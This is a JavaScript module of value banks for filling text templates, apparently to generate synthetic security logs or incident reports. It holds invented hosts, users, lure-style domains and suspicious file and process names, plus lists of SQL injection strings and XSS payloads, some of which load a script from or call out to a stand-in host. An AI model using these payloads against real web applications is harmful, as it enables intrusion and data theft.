// What the slots of the templates are filled with: invented hosts, users, domains and products, addresses of the
// documentation ranges (RFC 5737) and of private ranges (RFC 1918). A bank is an array, or a function of a
// generator `r` with r.int(least, most) and r.pick(array). An entry [en, zh] differs by language.
const HOSTS = `web-01 web-07 shop-fe2 db-prod3 db-archive mail-gw1 mx02 dc01 dc-west2 fs-hr fs-legal03 erp-app4 erp-db1 jump-02 vpn-edge1 fw-core2
 fw-branch9 ci-runner5 git-01 k8s-node11 k8s-node27 hmi-press4 scada-hist1 lab-ws38 WS-1147 WS-2093 NB-0412 NB-3381 PC-ACC-06 PC-HR-14 print-b2
 pos-114 kiosk-3 proxy-02 dns-int1 ldap-02 crm-web3 wiki-01 backup-nas2 vc-host06 esx-14 api-gw2 auth-01 media-09 sensor-hub7 voip-pbx1`.split(/\s+/);
const USERS = `l.chen zhaoyun m.keller wangfang7 j.okafor sunli p.novak liuyang88 a.haddad chenjie t.lindqvist huangwei r.silva xuting k.tanaka zhoumin
 d.moreau linxia s.iyer gaofeng b.larsen majun e.costa tangyu n.petrov hezhen c.walsh dengkai f.rossi luoqing i.hansen songbo o.mensah yejing
 v.kumar panlei g.schmidt caiying h.yilmaz fanrui w.jansen mengxi q.duarte shiyan u.berg taoran y.cohen weiwen z.farouk qiulin`.split(/\s+/);
const WORDS = `cedar amber harbor willow delta pixel lotus summit falcon ember orchid maple comet garnet river linen onyx meadow quartz tulip`.split(/\s+/);
const LURES = `login verify secure account portal update billing support mail docs sso parcel refund notice share`.split(/\s+/);
const PATHS = `search.php products/list item/view.aspx account/orders api/v2/users news/show forum/thread.php catalog cart/add report/export
 login.do admin/query booking/find profile/edit comments/post help/article tickets/new download.jsp support/faq gallery/index`.split(/\s+/);
const STEMS = `invoice_$ update$ setup-$ scan_$ report$ viewer$ sync$ tool-$ driver_$ patch$ cv_$ photo$ order-$ helper$ offer_$`.split(/\s+/);

const TEAMS = [["the web team", "网站组"], ["platform operations", "平台运维组"], ["the network group", "网络组"], ["facility management", "后勤部"],
  ["the data platform team", "数据平台组"], ["purchasing", "采购部"], ["the laboratory", "实验室"], ["the mobile app team", "移动应用组"],
  ["internal audit", "内审部"], ["the Hangzhou branch", "杭州分部"], ["the Lyon branch", "里昂分部"], ["workplace services", "桌面服务组"]];

export const BANKS = {
  ip: (r) => r.pick(["192.0.2.", "198.51.100.", "203.0.113."]) + r.int(1, 254),
  lan: (r) => r.pick([() => `10.${r.int(0, 99)}.${r.int(0, 255)}.${r.int(2, 254)}`, () => `172.${r.int(16, 31)}.${r.int(0, 255)}.${r.int(2, 254)}`,
    () => `192.168.${r.int(0, 255)}.${r.int(2, 254)}`])(),
  cidr: (r) => r.pick([() => `10.${r.int(0, 99)}.${r.int(0, 255)}.0/24`, () => `172.${r.int(16, 31)}.${r.int(0, 15) * 16}.0/20`, () => `192.168.${r.int(0, 255)}.0/24`])(),
  host: (r) => r.pick(HOSTS) + r.pick(["", "", "", ".corp.example", ".intra.example", ".plant.example"]),
  user: (r) => r.pick(USERS),
  port: (r) => r.pick([21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 389, 443, 445, 502, 1433, 1521, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 27017]),
  port2: (r) => r.int(32768, 60999),
  ports: (r) => Array.from({ length: r.int(3, 6) }, () => r.pick([21, 22, 23, 25, 80, 110, 111, 135, 139, 143, 443, 445, 993, 1433, 1521, 2049, 3306, 3389, 5432, 5900,
    6379, 8000, 8080, 8443, 9200, 11211, 27017])).filter((p, i, all) => all.indexOf(p) === i).sort((a, b) => a - b).join(r.pick([",", ", ", "/"])),
  n: (r) => r.int(2, 9), nn: (r) => r.int(11, 97), nnn: (r) => r.int(112, 9890), pct: (r) => r.int(61, 99), min: (r) => r.int(2, 58),
  rule: (r) => r.int(10024, 98999), pid: (r) => r.int(612, 32110),
  size: (r) => r.pick([() => `${r.int(2, 88)}.${r.int(1, 9)} GB`, () => `${r.int(210, 990)} MB`, () => `${r.int(2, 60)} GB`])(),
  time: (r) => `${String(r.int(0, 23)).padStart(2, "0")}:${String(r.int(0, 59)).padStart(2, "0")}${r.pick(["", "", `:${String(r.int(0, 59)).padStart(2, "0")}`])}`,
  date: (r) => r.pick([(m, d) => `2026-${m}-${d}`, (m, d) => `2026-${m}-${d}`, (m, d) => `2026/${m}/${d}`, (m, d) => `2026${m}${d}`])(
    String(r.int(1, 12)).padStart(2, "0"), String(r.int(1, 28)).padStart(2, "0")),
  dom: (r) => r.pick([() => `${r.pick(LURES)}-${r.pick(WORDS)}${r.int(1, 99)}.example`, () => `${r.pick(WORDS)}-${r.pick(WORDS)}.example`,
    () => `${r.pick(LURES)}.${r.pick(WORDS)}${r.pick(WORDS)}.test`, () => `${r.pick(WORDS)}${r.int(1, 999)}.invalid`])(),
  path: (r) => r.pick(PATHS),
  param: (r) => r.pick("id q name cat sort page item lang ref user comment title token key city order next view".split(" ")),
  file: (r) => r.pick(STEMS).replace("$", r.int(1, 9999)) + r.pick([".exe", ".dll", ".bin", ".js", ".scr", ".dat", ".docm", ".sys"]),
  proc: (r) => r.pick("svchost32.exe rundll32.exe updater.exe winhelp.exe regsvr32.exe msbuild.exe wscript.exe python3 perl spoolsv.exe certutil.exe node.exe hostmon.exe".split(" ")),
  hash: (r) => Array.from({ length: r.pick([16, 32]) }, () => r.pick([..."0123456789abcdef"])).join(""),
  share: (r) => r.pick("finance$ projects hr_docs engineering public sales2026 archive legal".split(" ")),
  svc: (r) => r.pick("svc_backup svc_sql svc_web svc_deploy svc_mon svc_print svc_report svc_etl".split(" ")),
  ua: (r) => r.pick(["Mozilla/4.0 (compatible; MSIE 6.0)", "curl/7.29", "Go-http-client/1.1", "WinHTTP/5.1", "python-requests/2.9", "UpdateAgent 1.0", "-"]),
  prod: (r) => r.pick(["Gatewarden", "SentryLoom", "NetHarrier 7", "Bluecairn NDR", "Patchwork EDR", "MailBastion", "Orrery SIEM", "KestrelWall", "Halberd XDR", "Mistgate", "Ferrous IDS", "TallyGuard"]),
  team: (r) => r.pick(TEAMS),
  sqli: (r) => r.pick(["' OR '1'='1", "' or 1=1--", "1 UNION SELECT null,version(),null", "1;WAITFOR DELAY '0:0:5'--", "admin'--", "1 AND SLEEP(5)", "-1' union select 1,user(),3#",
    "x' AND 1=(SELECT COUNT(*) FROM tabname)--", "1)) or ((1=1", "1%27%20UNION%20ALL%20SELECT%20NULL--", "1' ORDER BY 9-- -", "1||(select banner from v$version)", "';exec xp_dirtree '//x'--",
    "0 or extractvalue(1,concat(0x7e,database()))", "1/**/UnIoN/**/SeLeCt/**/1,2"]),
  xss: (r) => r.pick(["<script>alert(1)</script>", "<img src=x onerror=alert(document.domain)>", "<svg/onload=prompt(1)>", "\"><script src=//x.example/a.js></script>", "<body onload=alert('t')>",
    "<iframe src=javascript:alert(1)>", "'-confirm(1)-'", "<a href=javascript:alert(1)>x</a>", "<ScRiPt>eval(name)</sCrIpT>", "%3Cscript%3Ealert(7)%3C/script%3E", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=fetch('//c.example')>", "\" onmouseover=\"alert(9)", "<math><mi xlink:href=data:x,1>", "<video><source onerror=print()>"]),
};
